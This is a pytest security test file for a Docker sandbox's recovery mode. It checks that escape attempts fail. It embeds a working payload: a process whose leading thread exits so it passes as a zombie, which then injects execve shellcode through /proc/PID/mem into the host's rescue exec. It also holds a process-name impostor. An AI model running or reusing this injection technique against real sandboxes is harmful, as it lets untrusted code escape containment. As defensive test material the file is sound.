"""Attack pass D-R (2026-12-06) on the Docker recovery window (issue 20): sandbox code that tries
to outlive its owner's kill -9 inside the kept container.

A process whose leading thread exits alone (the raw exit syscall, not exit_group) is listed in
/proc as a zombie while its other threads run on. init.py's kill passes skipped zombies, so such
a process lived through the whole window beside PID 1, and `--archive-once` (which counts the
same list) ran beside it. From there it stopped the rescue exec while it was still dumpable (a
`docker exec` starts as a dumpable /bin/sh, before init.py marks it undumpable and stacks the
seccomp filter) and wrote an execve of a workspace script at its pc through /proc/PID/mem: the
host's exec ran sandbox code under Docker's filter alone (Seccomp_filters 1, not 2).

The host going away is the channel's socket shut (tests/sandbox/test_docker_rescue.py does the
same); every container is removed by id.
"""

from __future__ import annotations

import asyncio
import socket
import subprocess
import tarfile
import time
from collections.abc import AsyncIterator
from pathlib import PurePosixPath
from typing import Any

import pytest

from backends import require_backend
from coderoom.sandboxes import Limits, SandboxSpec, get_backend

pytestmark = pytest.mark.docker

LIMITS = Limits(timeout=20, workspace_size="64M", pids=64)
WITHIN_S = 60.0  # generous: a loaded machine

# Its main thread exits alone once a second thread runs; that thread writes a heartbeat, and
# stops the first new process it can open /proc/PID/mem of (the rescue exec), writes an
# `execve("/workspace/p", NULL, NULL)` at its pc and lets it go on.
LEADERLESS = r'''
import ctypes, os, signal, threading, time
code = bytes.fromhex("488d3d0b000000" "31f6" "31d2" "b83b000000" "0f05") + b"/workspace/p\0"
with open("/workspace/p", "w") as f:
    f.write("#!/bin/sh\ngrep Seccomp_filters /proc/self/status > /workspace/escaped.txt\n")
os.chmod("/workspace/p", 0o755)

def hijack(pid):
    for _ in range(20000):
        try:
            os.kill(pid, signal.SIGSTOP)
        except PermissionError:
            time.sleep(0.0002)
            continue
        time.sleep(0.01)
        try:
            fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
        except PermissionError:
            os.kill(pid, signal.SIGCONT)
            time.sleep(0.0002)
            continue
        try:
            os.pwrite(fd, code, int(open("/proc/%d/syscall" % pid).read().split()[-1], 16))
            return True
        finally:
            os.close(fd)
            os.kill(pid, signal.SIGCONT)
    return False

def survive():
    seen, done, n = set(os.listdir("/proc")), False, 0
    while True:
        n += 1
        with open("/workspace/beat.txt", "w") as f:
            f.write(str(n))
        for name in os.listdir("/proc"):
            if name.isdigit() and name not in seen:
                seen.add(name)
                try:
                    done = done or hijack(int(name))
                except OSError:
                    pass
        time.sleep(0.001)

threading.Thread(target=survive).start()
time.sleep(0.5)
ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: this thread only (ctypes releases the GIL)
'''


@pytest.fixture
async def sandbox() -> AsyncIterator[Any]:
    require_backend("docker")
    box = await get_backend("docker").start(SandboxSpec(backend="docker", limits=LIMITS))
    try:
        yield box
    finally:
        subprocess.run(["docker", "rm", "-f", box.container_id], capture_output=True, timeout=60)


def processes(box: Any) -> list[list[str]]:
    """The container's processes (pid, state, name) as the engine lists them: no exec of ours."""
    return box.client.api.top(box.container_id, ps_args="-o pid,stat,comm")["Processes"]


def read_as_root(box: Any, path: str) -> str:
    done = subprocess.run(["docker", "exec", "-u", "0", box.container_id, "cat", path], capture_output=True, timeout=60)
    return done.stdout.decode(errors="replace")


async def leaderless_then_host_gone(box: Any) -> Any:
    """The process above runs, a run is bound, the host goes; the kept container's rescuer."""
    from coderoom.sandboxes.docker.rescue import RescuedSandbox

    await box.write_file(PurePosixPath("kept.txt"), b"before the host went")
    await box.start_process(["python3", "-c", LEADERLESS], tty=False, lifetime=None)
    deadline = time.monotonic() + WITHIN_S
    while not any(row[1].startswith("Z") for row in processes(box)):  # its leader has exited
        assert time.monotonic() < deadline, processes(box)
        await asyncio.sleep(0.1)
    box.keep_for_recovery(120)
    box.channel()._raw.shutdown(socket.SHUT_RDWR)
    rescuer = RescuedSandbox(box.client, box.container_id, LIMITS, root=box.root)
    assert await rescuer._kept(WITHIN_S)
    return rescuer


async def test_a_process_whose_leading_thread_exited_does_not_outlive_the_kill_passes(sandbox: Any) -> None:
    await leaderless_then_host_gone(sandbox)
    first = read_as_root(sandbox, "/workspace/beat.txt")
    await asyncio.sleep(2)
    assert [row[2] for row in processes(sandbox)] == ["coderoom-kept"]  # PID 1 alone in its window
    assert read_as_root(sandbox, "/workspace/beat.txt") == first  # nothing writes any more


async def test_the_rescue_exec_runs_no_sandbox_code(sandbox: Any) -> None:
    rescuer = await leaderless_then_host_gone(sandbox)
    archive = await rescuer.archive(snapshot=True)
    with tarfile.open(fileobj=archive) as tar:
        names = tar.getnames()
    assert "kept.txt" in names and "escaped.txt" not in names
    assert read_as_root(sandbox, "/workspace/escaped.txt") == ""  # no script ran, in no filter


async def test_the_host_waits_for_pid_1s_kept_name_not_an_impostors(sandbox: Any) -> None:
    """A sandbox process names itself coderoom-kept while PID 1 is attached: the host's wait
    for the name must not take it (its exec would be refused, and a prune then removes the
    container unsaved)."""
    from coderoom.sandboxes.docker.rescue import RescuedSandbox

    impostor = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'coderoom-kept', 0, 0, 0); time.sleep(300)"
    await sandbox.start_process(["python3", "-c", impostor], tty=False, lifetime=None)
    deadline = time.monotonic() + WITHIN_S
    while "coderoom-kept" not in [row[2] for row in processes(sandbox)]:
        assert time.monotonic() < deadline, processes(sandbox)
        await asyncio.sleep(0.1)
    assert not await RescuedSandbox(sandbox.client, sandbox.container_id, LIMITS, root=sandbox.root)._kept(1.0)
